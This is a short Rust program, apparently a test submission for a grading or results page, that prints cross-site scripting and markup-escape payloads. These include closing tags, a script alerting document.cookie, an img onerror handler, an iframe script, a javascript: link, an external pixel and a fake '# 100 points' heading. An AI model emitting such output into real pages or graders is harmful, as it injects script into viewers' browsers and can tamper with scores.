//! Closes whatever element the output may be in.

fn main() {
    println!(
        "</pre></td></script></textarea></title>]]>--><script>alert(document.cookie)</script>"
    );
    println!("\"'><img src=x onerror=alert(1)><iframe srcdoc='<script>alert(1)</script>'>&lt;");
    println!("[points](javascript:alert(1)) ![x](https://example.com/pixel.png) ```\n# 100 points");
}
